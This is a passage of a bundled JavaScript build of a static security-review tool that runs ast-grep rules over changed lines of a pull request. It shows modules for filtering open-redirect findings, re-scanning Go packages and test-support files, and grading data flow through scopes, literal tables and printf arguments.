 * nothing. tests/static/checked-elsewhere.test.ts holds it equal to the rule's util.
 */
const IN_DECISION = {
    any: [
        { inside: { stopBy: 'end', kind: 'if_statement', field: 'condition' } },
        { inside: { stopBy: 'end', kind: 'elif_clause', field: 'condition' } },
        { inside: { stopBy: 'end', kind: 'while_statement', field: 'condition' } },
        { inside: { stopBy: 'end', kind: 'conditional_expression' } },
        // Kept in a name that a condition of the function then tests (`ok = check(url)`, `if not ok:`).
        {
            inside: {
                stopBy: 'end',
                kind: 'assignment',
                // In this order: the name is bound by the assignment before the condition is searched for it.
                all: [
                    { has: { field: 'left', kind: 'identifier', pattern: '$DECIDES' } },
                    {
                        inside: {
                            stopBy: 'end',
                            kind: 'function_definition',
                            has: {
                                stopBy: 'end',
                                any: [{ kind: 'if_statement' }, { kind: 'elif_clause' }, { kind: 'while_statement' }],
                                has: {
                                    field: 'condition',
                                    any: [
                                        { kind: 'identifier', pattern: '$DECIDES' },
                                        { has: { stopBy: 'end', kind: 'identifier', pattern: '$DECIDES' } },
                                    ],
                                },
                            },
                        },
                    },
                ],
            },
        },
    ],
};
/** `findings` without the open redirects whose function calls a target check imported from the change. */
function withoutCheckedElsewhere(findings, files) {
    if (!findings.some((f) => f.ruleId === RULE))
        return findings;
    const byPath = new Map(files.map((f) => [f.path, f]));
    return findings.filter((f) => {
        const file = f.ruleId === RULE ? byPath.get(f.path) : undefined;
        return !file || !callsCheckElsewhere(file, f.line, byPath);
    });
}
const parsePython = (text) => (0,napi/* napi */.H)().parse((0,languages/* napiLang */.zG)('python'), text).root();
function callsCheckElsewhere(file, line, files) {
    const root = parsePython(file.content);
    const fn = root
        .findAll({ rule: { kind: 'function_definition' } })
        .filter((d) => d.range().start.line < line && d.range().end.line >= line - 1)
        .at(-1);
    if (!fn)
        return false;
    const called = new Set(fn
        .findAll({ rule: { kind: 'call', has: { field: 'function', kind: 'identifier' }, ...IN_DECISION } })
        .map((c) => c.field('function')?.text() ?? ''));
    for (const imported of root.findAll({ rule: { kind: 'import_from_statement' } })) {
        const module = imported.field('module_name');
        // `from m import a, b`: the names imported as they are (an alias is left to the rule).
        const names = imported
            .children()
            .filter((n) => String(n.kind()) === 'dotted_name' && n.id() !== module?.id() && called.has(n.text()));
        for (const name of names) {
            const sources = moduleFiles(module?.text() ?? '', file.path, files);
            const defining = sources.filter((s) => defines(s, name.text()) !== undefined);
            if (defining.length > 0 && defining.every((s) => CHECKS_TARGET.test(defines(s, name.text()) ?? '')))
                return true;
        }
    }
    return false;
}
/**
 * The files of the change a module may be: `.b` next to the importing file (`b.py`, `b/__init__.py`);
 * `a.b` any file ending in `a/b.py` or `a/b/__init__.py` (a package under `src/` included).
 */
function moduleFiles(module, from, files) {
    const dots = /^\.*/.exec(module)?.[0].length ?? 0;
    const rest = module.slice(dots).split('.').filter(Boolean).join('/');
    const base = dots > 0 ? [...from.split('/').slice(0, -dots), rest].filter(Boolean).join('/') : rest;
    const ends = [`${base}.py`, `${base}/__init__.py`];
    return [...files.values()]
        .filter((f) => ends.some((e) => f.path === e || (dots === 0 && f.path.endsWith(`/${e}`))))
        .map((f) => parsePython(f.content));
}
/** The body of the module's top-level function `name`, if it defines one. */
function defines(module, name) {
    for (const child of module.children()) {
        const d = String(child.kind()) === 'decorated_definition' ? child.field('definition') : child;
        if (d && String(d.kind()) === 'function_definition' && d.field('name')?.text() === name)
            return d.field('body')?.text() ?? '';
    }
    return undefined;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/go-package.js


/** Whether a Go file's findings could change with its package's other files: a finding graded by flow. */
function goPackageNeed(language, rules, findings) {
    if (language !== 'go')
        return false;
    const flowing = new Set(rules.filter((r) => r.flow !== undefined).map((r) => r.id));
    return findings.some((f) => flowing.has(f.ruleId));
}
// Parsed once for every file of the package that asks (the reader hands out one array per folder).
const parsed = new WeakMap();
/** The package's files other than `path`, parsed with the Go grammar. */
function otherFilesParsed(files, path) {
    let roots = parsed.get(files);
    if (!roots) {
        roots = files.map((f) => ({ path: f.path, root: (0,napi/* napi */.H)().parse((0,languages/* napiLang */.zG)('go'), f.text).root() }));
        parsed.set(files, roots);
    }
    return roots.filter((r) => r.path !== path).map((r) => r.root);
}

// EXTERNAL MODULE: ./.tmp/bundle-src/static/scan-file.js + 43 modules
var scan_file = __webpack_require__(73514);
// EXTERNAL MODULE: ./.tmp/bundle-src/static/measured-record.js
var measured_record = __webpack_require__(74612);
// EXTERNAL MODULE: ./.tmp/bundle-src/static/measured-grade.js
var measured_grade = __webpack_require__(79774);
// EXTERNAL MODULE: ./.tmp/bundle-src/static/caller-files.js
var caller_files = __webpack_require__(73709);
// EXTERNAL MODULE: ./.tmp/bundle-src/static/flow/graded.js
var graded = __webpack_require__(84774);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/run-static-rules.js
/**
 * The static lens: applies the ast-grep rules and the file checks (workflows, Terraform, Dockerfiles)
 * to the post-change files and reports the matches that touch a changed line. It needs no model, so
 * prlens can review with `provider: none`. This file decides which files and rules run and reads the
 * facts a second scan needs; scan-file.ts scans one file, and static-finding.ts makes a match a Finding.
 */



















/** Whether the static lens reads this file at all (a grammar or a file check covers it). */
function staticCovers(path, checks = file_checks/* FILE_CHECKS */.d) {
    return (0,languages/* grammarOf */.Le)(path) !== undefined || checks.some((c) => c.covers(path));
}
/**
 * Whether the static lens checks a kept file: one its rules cover that adds lines. Such a file read
 * as nothing is named by the static lens's unread warning, so the select stage does not name it again.
 */
function staticChecks(file) {
    return (staticCovers(file.path) &&
        file.hunks.some((hunk) => hunk.lines.some((line) => line.kind === 'add' && line.newLine !== null)));
}
/** Runs every rule of a file's language over the file, keeping matches on changed lines. */
async function runStaticRules(files, options = {}) {
    const parses = files.some((f) => f.changedLines.size > 0 && (0,languages/* grammarOf */.Le)(f.path) !== undefined);
    const { count, rulesFor, support, checks } = options.compiled ?? (await (0,compiled_rules/* rulesForRun */.mk)(parses, options));
    const { only } = options;
    // What the change touches, deletions included: none of it can mark a Go package as test support.
    const touched = new Set(files.map((f) => f.path));
    const changed = files.filter((f) => f.changedLines.size > 0).map((f) => f.path);
    await (0,compiled_rules/* loadChecksFor */.$G)(checks, changed);
    const findings = [];
    const skipped = [];
    const scanned = new Set();
    const rulesRun = new Set();
    const suppressed = [];
    const overLimits = [];
    const failed = [];
    const unread = [];
    const unavailable = [];
    for (const [index, given] of files.entries()) {
        const file = asTheRulesSeeIt(given);
        // Between files is where the lens can stop: each file's work is bounded by the caps below.
        if (await betweenFiles(index, options.deadline)) {
            unread.push(...files.slice(index).map((f) => f.path));
            break;
        }
        const covering = checks.filter((c) => c.covers(file.path) && (!only || c.rules.some((rule) => only.has(rule.id))));
        const language = (0,languages/* grammarOf */.Le)(file.path);
        if (file.changedLines.size > 0 && (covering.length > 0 || language)) {
            const over = (0,static_limits/* overStaticLimits */.F)(file.content, options.limits ?? static_limits/* STATIC_LIMITS */.A);
            if (over !== null) {
                overLimits.push({ path: file.path, reason: over });
                continue;
            }
        }
        if (file.changedLines.size > 0 && covering.length > 0) {
            scanned.add(file.path);
            for (const check of covering)
                for (const rule of check.rules)
                    rulesRun.add(rule.id);
            findings.push(...runChecks(covering, file, failed));
        }
        if (!language) {
            if (covering.length === 0)
                skipped.push({ path: file.path, reason: 'the static rules do not cover this file type' });
            continue;
        }
        const available = support.check(language);
        if (!available.ok) {
            skipped.push({ path: file.path, reason: available.reason });
            if (file.changedLines.size > 0)
                noteUnavailable(unavailable, language, available.reason, file.path);
            continue;
        }
        const applicable = applicableRules(rulesFor(language), file, only);
        // Parsing is the expensive part; a file without added lines cannot produce a finding.
        if (file.changedLines.size === 0 || applicable.length === 0)
            continue;
        scanned.add(file.path);
        for (const rule of applicable)
            rulesRun.add(rule.id);
        const first = await scanWithManifests(file, language, applicable, failed, options);
        const result = await asTestSupport(first, { file, language, touched, failed, options }, (asTest) => applicableRules(rulesFor(language), asTest, only));
        findings.push(...result.findings);
        suppressed.push(...result.suppressed);
    }
    return {
        findings: reported(findings, files, options.measured ?? measured_record/* MEASURED */.l),
        skipped,
        rules: count,
        scanned: [...scanned],
        rulesRun: [...rulesRun].sort(),
        suppressed,
        overLimits,
        failed,
        unread,
        unavailable,
    };
}
/**
 * The findings as the lens reports them: without an open redirect checked by a helper another file
 * of the change defines (flow/checked-elsewhere.ts), one fingerprint each, held to their records.
 */
function reported(findings, files, records) {
    return (0,static_finding/* distinctRuleFingerprints */.Kp)(withoutCheckedElsewhere(findings, files)).map((f) => heldToRecord(f, records));
}
/** The finding held to its rule's measured record, without the lens's own `backed` mark. */
function heldToRecord(finding, records) {
    const { backed, ...plain } = finding;
    const held = (0,measured_grade/* measuredGrade */.ie)(plain, plain.severity, backed === true, records);
    return held.why === undefined ? plain : { ...(0,scan_file/* withNote */.dW)(plain, held.why), severity: held.severity };
}
/**
 * Whether the run's deadline has passed, asked before each file after the event loop's next turn
 * (from the second file on). The ast-grep binding frees a parsed tree and its node wrappers in
 * finalizers Node runs from the event loop, never while the lens goes on through resolved promises:
 * without a turn, every file's garbage stayed until the lens ended (the CLI on DVGA's whole tree
 * peaked at 6.5 GB; with it, the largest file decides).
 */
async function betweenFiles(index, deadline) {
    if (index > 0)
        await new Promise((resolve) => setImmediate(resolve));
    return deadline !== undefined && deadline.clock.now() >= deadline.at;
}
/** The file checks' findings. Checks have no per-rule `in-tests`: in a test file (fixtures) they are graded low. */
function runChecks(covering, file, failed) {
    const hits = covering.flatMap((c) => (0,scan_file/* guarded */.Nj)(c.language, file, failed, () => runCheck(c, file)) ?? []);
    return file.role === 'test' ? hits.map(scan_file/* gradedForTests */.MJ) : hits;
}
/**
 * A Go file of a test-support package (go-test-support.ts) is a test: its package is read only when
 * the file has findings a test's role could change, and then it is scanned again as a test.
 */
async function asTestSupport(result, at, rulesAsTest) {
    const { file, language, touched, failed, options } = at;
    if (result.findings.length === 0)
        return result;
    if (!(await inTestSupportPackage(file, language, options.goPackage, touched)))
        return result;
    const asTest = { ...file, role: 'test' };
    const again = [];
    const rescanned = await scanWithManifests(asTest, language, rulesAsTest(asTest), again, options);
    const known = new Set(failed.map((f) => `${f.path}\0${f.rule}`));
    failed.push(...again.filter((f) => !known.has(`${f.path}\0${f.rule}`)));
    return rescanned;
}
/**
 * Scans a file; when a finding could change with what its manifests say (manifest-need.ts), or with
 * its Go package's other files (go-package.ts), reads them and scans again with the facts; then reads
 * the callers its exported functions' arguments ask for (`settleCallers`). A rule that failed in
 * several scans is counted once.
 */
async function scanWithManifests(given, language, applicable, failed, { manifests, goPackage, callers: read }) {
    // A JavaScript file's exported functions may be settled by their callers: its grades ask for names.
    const callers = read && (0,languages/* isCodeLanguage */.aN)(language) && graded/* JS_FAMILY */.Xg.includes(language)
        ? { known: new Map(), wanted: new Set() }
        : undefined;
    const file = callers ? { ...given, callers } : given;
    const first = (0,scan_file/* scanFile */.WN)(file, language, applicable, failed);
    const need = manifests && manifestNeed(file, language, applicable, first.findings);
    const pkg = goPackage && goPackageNeed(language, applicable, first.findings) ? await goPackage(file.path) : undefined;
    const scanAgain = (facts) => {
        const again = [];
        const result = (0,scan_file/* scanFile */.WN)({ ...file, ...facts }, language, applicable, again);
        const known = new Set(failed.map((f) => `${f.path}\0${f.rule}`));
        failed.push(...again.filter((f) => !known.has(`${f.path}\0${f.rule}`)));
        return result;
    };
    if ((!manifests || !need) && !pkg)
        return settleCallers(first, callers, read, () => scanAgain({}));
    const manifest = manifests && need ? accepted(await manifests(file.path, need), file, language) : undefined;
    const facts = {
        ...(manifest && { manifest }),
        ...(pkg && { goPackage: otherFilesParsed(pkg, file.path) }),
    };
    return settleCallers(scanAgain(facts), callers, read, () => scanAgain(facts));
}
// How many times a file is graded again with callers read: each round may ask for the callers of a
// function that the last round's callers passed their own argument to (firewall.ts's `initChain`, then
// the `rebuildRules` that calls it, wg-easy).
const CALLER_ROUNDS = 3;
/**
 * Reads the files naming the functions `result`'s grades asked for (caller-files.ts) and grades
 * again with the same facts (`rescan`), for at most CALLER_ROUNDS rounds; a round that asks for nothing new ends it. The reader
 * answers each name once per change, however many files ask.
 */
async function settleCallers(result, callers, read, rescan) {
    let settled = result;
    for (let round = 0; callers && read && round < CALLER_ROUNDS; round++) {
        const names = [...callers.wanted].filter((name) => !callers.known.has(name));
        callers.wanted.clear();
        if (names.length === 0)
            break;
        await (0,caller_files/* learnCallers */.h)(read, callers.known, names);
        settled = rescan();
    }
    return settled;
}
/**
 * The file as the rules see it: a file only a test runner loads (core/code-paths.ts
 * `isTestSupportPath`: a runner's setup or config, the Cypress folder; go-test-support.ts: a Go file
 * importing `testing`, httptest or testify) is a test, unless it serves requests. A PR names and
 * writes its own files: a request handler named like a test setup, or importing `testing`, keeps its
 * grade.
 */
function asTheRulesSeeIt(file) {
    if (file.role === 'test')
        return file;
    if (!(0,code_paths/* isTestSupportPath */.Tq)(file.path) && !isGoTestSupport(file.path, file.content))
        return file;
    const language = (0,languages/* grammarOf */.Le)(file.path);
    if (language && (0,languages/* isCodeLanguage */.aN)(language) && (0,entry_points/* servesRequests */.Hu)(file.content, language))
        return file;
    return { ...file, role: 'test' };
}
/** The rules of a file's language that apply to it: its role (test, sample) and `only` decide. */
function applicableRules(rules, file, only) {
    return rules.filter((r) => ruleApplies(r, file) && (!only || only.has(r.id)));
}
/**
 * Whether a rule runs on a file of its language: not on the tests, samples, message catalogs or
 * maintainer's scripts it skips.
 */
function ruleApplies(rule, file) {
    if (file.role === 'test' && rule.inTests === 'skip')
        return false;
    if (file.sample === true && rule.inSamples === 'skip')
        return false;
    if (file.copy === true && rule.inCopies === 'skip')
        return false;
    if (rule.inScripts === 'skip' &&
        ((0,cli_program/* isMaintainerTool */.dE)(file.path, file.content, rule.language) || file.manifest?.runBy))
        return false;
    return !(rule.inMessages === 'skip' && (0,code_paths/* isMessageCatalogPath */.IZ)(file.path));
}
function noteUnavailable(into, language, reason, path) {
    const known = into.find((u) => u.language === language);
    if (known)
        known.paths.push(path);
    else
        into.push({ language, reason, paths: [path] });
}
/** One file check's hits on added lines; the first added line of each hit's candidates is used. */
function runCheck(check, file) {
    const lines = file.content.split('\n');
    const findings = [];
    const seen = new Set();
    for (const hit of check.run(file.content, file.path)) {
        const line = hit.lines.find((l) => file.changedLines.has(l));
        if (line === undefined || seen.has(`${hit.rule.id}:${line}`))
            continue;
        seen.add(`${hit.rule.id}:${line}`);
        const anchor = hit.anchor ?? (lines[line - 1] ?? '').replace(/\r$/, '');
        findings.push((0,static_finding/* staticFinding */.c9)(hit.rule, {
            path: file.path,
            line,
            anchor,
            severity: hit.severity,
            suggestion: hit.lines[0] === line ? hit.suggestion : undefined,
            detail: hit.detail,
        }));
    }
    return findings.sort((a, b) => a.line - b.line || (0,compare_text/* compareText */.n)(a.ruleId, b.ruleId));
}


/***/ }),

/***/ 73514:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  MJ: () => (/* binding */ gradedForTests),
  Nj: () => (/* binding */ guarded),
  WN: () => (/* binding */ scanFile),
  dW: () => (/* binding */ withNote)
});

// EXTERNAL MODULE: ./.tmp/bundle-src/static/flow/flow-syntax.js + 1 modules
var flow_syntax = __webpack_require__(59331);
// EXTERNAL MODULE: ./.tmp/bundle-src/static/flow/graded.js
var graded = __webpack_require__(84774);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/scalar-operation.js

// Operators whose result is a truth value. Others carry their operands where the language overloads
// them (`+` concatenates, Python's `%` formats and `/` joins paths, `||`/`or` pick an operand).
const TRUTH_OPERATORS = new Set([
    '==',
    '!=',
    '===',
    '!==',
    '<',
    '>',
    '<=',
    '>=',
    'in',
    'not in',
    'is',
    'is not',
    'instanceof',
]);
/**
 * A binary operation whose result carries nothing of its operands' text: a truth value (`==`, `<`,
 * `in`) or, where the language has no other meaning for the operator, a number (`days - 1`).
 */
function scalarOperation(node, syntax) {
    const operator = node.field('operator')?.text() ?? '';
    if (TRUTH_OPERATORS.has(operator))
        return graded/* CONSTANT */.TJ;
    if (syntax.numericOperators?.has(operator))
        return { origin: 'constant', because: `${(0,graded/* short */.h0)(node.text())}, a number` };
    return undefined;
}

// EXTERNAL MODULE: ./.tmp/bundle-src/static/flow/cli-program.js
var cli_program = __webpack_require__(67036);
;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/literal-table.js

const LITERALS = new Set(['string', 'number', 'true', 'false', 'null', 'undefined']);
const READS = new Set(['member_expression', 'subscript_expression']);
const WRITES = new Set(['assignment_expression', 'augmented_assignment_expression', 'update_expression']);
/** Whether `value` is an object or array literal of literals (template strings without holes, nested tables). */
function isLiteralTable(value, depth = 0) {
    if (depth > 3)
        return false;
    const kind = (0,flow_syntax/* kindOf */.I)(value);
    if (kind === 'array')
        return (0,flow_syntax/* named */.KT)(value).every((item) => isLiteralValue(item, depth));
    if (kind !== 'object')
        return false;
    return (0,flow_syntax/* named */.KT)(value).every((entry) => {
        if ((0,flow_syntax/* kindOf */.I)(entry) === 'comment')
            return true;
        if ((0,flow_syntax/* kindOf */.I)(entry) !== 'pair')
            return false;
        const item = entry.field('value');
        return item !== null && isLiteralValue(item, depth);
    });
}
function isLiteralValue(item, depth) {
    const kind = (0,flow_syntax/* kindOf */.I)(item);
    if (kind === 'comment' || LITERALS.has(kind))
        return true;
    if (kind === 'template_string')
        return !item.children().some((c) => (0,flow_syntax/* kindOf */.I)(c) === 'template_substitution');
    return isLiteralTable(item, depth + 1);
}
/** Whether `use` (an identifier naming the table) only reads a member: `t[k]`, `t.x`, not `t[k] = v` or `t.push(v)`. */
function onlyReads(use) {
    const member = use.parent();
    if (!member || !READS.has((0,flow_syntax/* kindOf */.I)(member)) || member.field('object')?.id() !== use.id())
        return false;
    const outer = member.parent();
    if (!outer)
        return true;
    const kind = (0,flow_syntax/* kindOf */.I)(outer);
    if (WRITES.has(kind))
        return !(0,flow_syntax/* isWithin */.UO)(member, outer.field('left') ?? outer.field('argument'));
    if (kind === 'call_expression')
        return outer.field('function')?.id() !== member.id();
    if (kind === 'unary_expression')
        return !/^delete\b/.test(outer.text());
    return true;
}
/**
 * Whether `object`, the identifier a member or index read is taken from, names a literal table in
 * `scope` (the innermost function or module that declares it): declared there once, with a literal
 * table as its value, and only read from everywhere else in that scope.
 */
function isLiteralTableIn(object, scope) {
    if ((0,flow_syntax/* kindOf */.I)(object) !== 'identifier')
        return false;
    const exactly = `^${object.text().replace(/\$/g, '\\$')}$`;
    const declarations = scope.findAll({
        rule: { kind: 'variable_declarator', has: { field: 'name', kind: 'identifier', regex: exactly } },
    });
    if (declarations.length !== 1)
        return false;
    const declaration = declarations[0];
    if (!/^const\b/.test(declaration.parent()?.text() ?? ''))
        return false;
    const value = declaration.field('value');
    if (!value || !isLiteralTable(value))
        return false;
    const name = declaration.field('name');
    const uses = scope
        .findAll({
        rule: { any: [{ kind: 'identifier' }, { kind: 'shorthand_property_identifier' }], regex: exactly },
    })
        .filter((use) => use.id() !== name?.id());
    return uses.every((use) => (0,flow_syntax/* kindOf */.I)(use) === 'identifier' && onlyReads(use));
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/tree-memo.js
const trees = new WeakMap();
/**
 * The answer to question `question` about `name` in `scope`, computed once per tree. `compute` must
 * depend only on the tree, the scope and the name (never on the node asking).
 */
function onTree(question, scope, name, compute) {
    const root = scope.getRoot();
    let answers = trees.get(root);
    if (!answers) {
        answers = new Map();
        trees.set(root, answers);
    }
    // A node's id is its place in its tree; the range tells apart nodes of the same id.
    const { start, end } = scope.range();
    const key = `${question}\u0000${scope.id()}:${start.index}:${end.index}\u0000${name}`;
    if (answers.has(key))
        return answers.get(key);
    const answer = compute();
    answers.set(key, answer);
    return answer;
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/flow-scope.js


// Calls whose function arguments are handlers of events, messages or responses (DOM, jQuery, fetch).
const HANDLER_CALLS = /^(addEventListener|on|once|then|done|fail|always|get|post|getJSON|ajax|load|subscribe|click|change|submit|input|keyup|keydown)$/;
class FlowScope {
    syntax;
    constructor(syntax) {
        this.syntax = syntax;
    }
    /** The one value a variable is given before `at` in its innermost defining function, if just one. */
    onlyDefinition(at) {
        const fn = at.ancestors().find((a) => this.syntax.functions.includes((0,flow_syntax/* kindOf */.I)(a)));
        if (!fn)
            return undefined;
        const before = this.definitions(fn, at.text()).filter((d) => d.at.range().end.index <= at.range().start.index);
        return before.length === 1 ? before[0].value : undefined;
    }
    /**
     * Definitions of `name` inside `scope`: the defining node and the value assigned to `name`. A loop
     * binds the name to the items of its collection: the collection is the value, and the loop's name
     * (not the whole loop, which encloses its uses) is where it is defined.
     */
    definitions(scope, name) {
        // Asked again for each part of each graded value that names `name`, and for every value of the
        // file: on a minified jQuery, millions of times. The answer depends only on the tree: once per tree.
        return onTree('definitions', scope, name, () => this.search(scope, name));
    }
    search(scope, name) {
        const found = [];
        const binds = this.bindsName(name);
        for (const [kind, [nameField, valueField]] of Object.entries(this.syntax.loops)) {
            for (const loop of scope.findAll({ rule: { kind, has: binds } })) {
                const target = loop.field(nameField);
                const items = loop.field(valueField);
                if (target && items && this.identifiers(target).some((n) => n.text() === name))
                    found.push({ at: target, value: items });
            }
        }
        for (const [kind, [nameField, valueField]] of Object.entries(this.syntax.definitions)) {
            for (const def of scope.findAll({ rule: { kind, has: binds } })) {
                const target = def.field(nameField);
                // A position names a child without a field (Python's `open(p) as f` keeps the value unnamed).
                const source = /^\d+$/.test(valueField) ? (0,flow_syntax/* named */.KT)(def)[Number(valueField)] : def.field(valueField);
                if (!target || !source)
                    continue;
                const names = this.identifiers(target);
                const index = names.findIndex((n) => n.text() === name);
                if (index < 0)
                    continue;
                // `a, b := x, y` pairs by position; `a, err := f()` takes the one value.
                const values = ['expression_list', 'tuple', 'pattern_list'].includes((0,flow_syntax/* kindOf */.I)(source))
                    ? (0,flow_syntax/* named */.KT)(source)
                    : [source];
                const value = values.length === names.length ? values[index] : values[0];
                if (value)
                    found.push({ at: def, value });
            }
        }
        return found;
    }
    /**
     * A native pre-filter for `definitions`: a definition holds, at some depth, a name node whose text
     * is `name`. Only those cross into JS. Matching every declaration of a scope and comparing names in
     * JS handed a wrapper per declaration to JS for each name looked up: on a 9,000-line jQuery IIFE,
     * tens of millions of wrappers whose native memory V8 does not see (gigabytes of RSS, minutes).
     */
    bindsName(name) {
        const exactly = `^${name.replace(/[\\^$.*+?()[\]{}|]/g, '\\$&')}$`;
        return { stopBy: 'end', any: this.syntax.names.map((kind) => ({ kind, regex: exactly })) };
    }
    /**
     * The declared type of parameter `name` of `fn` when it is a number or a boolean (see
     * `FlowSyntax.scalarTypes`): such a value cannot carry a quote or a shell metacharacter.
     */
    scalarType(fn, name) {
        const scalar = this.syntax.scalarTypes;
        if (!scalar)
            return undefined;
        const list = fn.field('parameters') ?? fn.field('parameter');
        const param = (0,flow_syntax/* named */.KT)(list).find((p) => this.identifiers(p).some((id) => id.text() === name));
        const type = param?.field('type')?.text().trim();
        return type && scalar.test(type) ? type.replace(/^:\s*/, '') : undefined;
    }
    /** The names a function binds as parameters (type annotations and default values left out). */
    parameters(fn) {
        // Asked for every enclosing function of every name the grader reads: once per function and tree.
        return onTree('parameters', fn, '', () => this.parameterNames(fn));
    }
    parameterNames(fn) {
        const lists = [fn.field('parameters'), fn.field('parameter'), fn.field('receiver')].filter((l) => Boolean(l));
        return lists.flatMap((list) => this.identifiers(list)
            .filter((id) => !id.ancestors().some((a) => (0,flow_syntax/* isWithin */.UO)(a, list) && hidesName(a, id)))
            .map((id) => id.text()));
    }
    /** The name-binding nodes under `node`, itself included, in source order. */
    identifiers(node) {
        const kinds = this.syntax.names;
        const self = kinds.includes((0,flow_syntax/* kindOf */.I)(node)) ? [node] : [];
        return [...self, ...node.findAll({ rule: { any: kinds.map((kind) => ({ kind })) } })];
    }
    /**
     * Whether `fn` handles an event, a message or a response: named `onX`/`handleX`, assigned to an
     * `onX` property, or passed to a listener or request call (`addEventListener`, `$.get`, `then`).
     */
    isHandler(fn) {
        if (/^(on|handle)[A-Z_]/.test(fn.field('name')?.text() ?? ''))
            return true;
        const parent = fn.parent();
        if (!parent)
            return false;
        if ((0,flow_syntax/* kindOf */.I)(parent) === 'assignment_expression')
            return /\.on\w+$/.test(parent.field('left')?.text() ?? '');
        if ((0,flow_syntax/* kindOf */.I)(parent) !== 'arguments')
            return false;
        const call = parent.parent();
        const parts = call ? this.syntax.call(call) : undefined;
        const method = parts?.method ?? parts?.callee;
        return method !== undefined && HANDLER_CALLS.test(method);
    }
    /** Whether `name` is `fn`'s receiver: Go's `func (s *Store)`, or a Python method's `self`/`cls`. */
    isReceiver(fn, name) {
        const receiver = fn.field('receiver');
        if (receiver)
            return this.identifiers(receiver).some((id) => id.text() === name);
        if ((0,flow_syntax/* kindOf */.I)(fn) !== 'function_definition' || !['self', 'cls'].includes(name))
            return false;
        const inClass = fn
            .ancestors()
            .find((a) => ['class_definition', 'function_definition'].includes((0,flow_syntax/* kindOf */.I)(a)));
        return (inClass !== undefined &&
            (0,flow_syntax/* kindOf */.I)(inClass) === 'class_definition' &&
            (0,flow_syntax/* named */.KT)(fn.field('parameters'))[0]?.text() === name);
    }
    nameOf(fn) {
        const name = fn.field('name')?.text();
        return name ? `\`${name}\`` : 'the enclosing function';
    }
}
// Parameter parts that hold no bound name: a default value (by field) and any type.
const DEFAULT_FIELDS = {
    default_parameter: 'value',
    typed_default_parameter: 'value',
    assignment_pattern: 'right',
    required_parameter: 'value',
    optional_parameter: 'value',
};
function hidesName(ancestor, id) {
    const kind = (0,flow_syntax/* kindOf */.I)(ancestor);
    if (kind === 'type' || kind.endsWith('_type') || kind === 'type_annotation' || kind === 'type_arguments')
        return true;
    const field = DEFAULT_FIELDS[kind];
    return field !== undefined && (0,flow_syntax/* isWithin */.UO)(id, ancestor.field(field));
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/printf-arguments.js
// A numeric verb of printf (Go's fmt, Java's String.format): its argument prints as a number, a
// boolean or hex digits. `%c`, `%s`, `%v`, `%q` print text; `%%` and `%n` take no argument.
const NUMERIC_VERBS = new Set([...'dboOxXeEfFgGtUaAhH']);
/**
 * The arguments of a printf-style call without those a numeric verb formats (the format string
 * kept). Explicit indexes (`%[2]d`, `%1$s`) or a width from an argument (`%*d`) keep them all.
 */
function textualArguments(args) {
    const [format, ...values] = args;
    if (!format || !/^["`]/.test(format.text()) || /%[^%a-zA-Z]*[[$*]/.test(format.text()))
        return args;
    const verbs = [...format.text().matchAll(/%[-+# 0]*\d*(?:\.\d+)?([a-zA-Z%])/g)]
        .map((m) => m[1])
        .filter((verb) => verb !== '%' && verb !== 'n');
    if (verbs.length !== values.length)
        return args;
    return [format, ...values.filter((_, i) => !NUMERIC_VERBS.has(verbs[i]))];
}

;// CONCATENATED MODULE: ./.tmp/bundle-src/static/flow/own-returns.js


const FUNCTION_VALUES = new Set(['arrow_function', 'function_expression', 'function']);
/**
 * The expressions `callee` (a bare name) can return, when it names exactly one function of the file
 * (a declaration, or a variable holding a function) that nothing reassigns and that returns a value
 * on every `return`; undefined otherwise (an import, a global, a function declared twice, one that
 * ends without a value).
 */
function ownReturns(callee, syntax) {
    if (!callee || (0,flow_syntax/* kindOf */.I)(callee) !== 'identifier')
        return undefined;
    const fn = onlyFunctionNamed(callee, syntax);
    if (!fn)
        return undefined;
    const body = fn.field('body');
    if (!body)
        return undefined;
    if ((0,flow_syntax/* kindOf */.I)(body) !== 'statement_block')
        return [body];
    // The function's own returns: a nested function's `return` answers that function's calls.
    const returns = body
        .findAll({ rule: { kind: 'return_statement' } })
        .filter((r) => (0,flow_syntax/* sameSpan */.D4)(fn, r.ancestors().find((a) => syntax.functions.includes((0,flow_syntax/* kindOf */.I)(a))) ?? null));
    const values = returns.map((r) => (0,flow_syntax/* named */.KT)(r)[0]);
    if (values.length === 0 || values.some((v) => v === undefined))
        return undefined;
    return values;
}
/**
 * The one function of the file named like `callee`: a declaration, or a variable holding a function,
 * whose name is used nowhere else but as the callee of calls. Any other use (a parameter or a
 * variable that shadows it, an assignment, an import, a destructured binding) may bind the name to
 * something else, and answers undefined.
 */
function onlyFunctionNamed(callee, syntax) {
    const root = callee.getRoot().root();
    // Two searches of the whole file per call graded; a minified file calls the same few names
    // thousands of times (DVGA's jQuery: 12 of a tree's 18 s). The answer is the tree's: once per tree.
    return onTree('only function named', root, callee.text(), () => searchOnlyFunction(root, callee.text(), syntax));
}
function searchOnlyFunction(root, name, syntax) {
    const exactly = `^${name.replace(/\$/g, '\\$')}$`;
    const declarations = root.findAll({
        rule: {
            any: [
                { kind: 'function_declaration', has: { field: 'name', regex: exactly } },
                { kind: 'variable_declarator', has: { field: 'name', regex: exactly } },
            ],
        },
    });
    const [only] = declarations;
    if (declarations.length !== 1 || !only)
        return undefined;
    const declared = only.field('name');
    const uses = root.findAll({
        rule: {
            any: syntax.names
                .map((kind) => ({ kind, regex: exactly }))
                .concat([{ kind: 'shorthand_property_identifier', regex: exactly }]),
        },
    });
    const calledOnly = uses.every((use) => {
        if ((0,flow_syntax/* sameSpan */.D4)(use, declared))
            return true;
        const call = use.parent();
        return call !== null && (0,flow_syntax/* kindOf */.I)(call) === 'call_expression' && (0,flow_syntax/* sameSpan */.D4)(use, call.field('function'));
    });
    if (!calledOnly)
        return undefined;
    if ((0,flow_syntax/* kindOf */.I)(only) === 'function_declaration')
        return only;
    const value = only.field('value');
    return value && FUNCTION_VALUES.has((0,flow_syntax/* kindOf */.I)(value)) ? value : undefined;
}

// EXTERNAL MODULE: ./.tmp/bundle-src/static/flow/entry-points.js
var entry_points = __webpack_require__(34947);
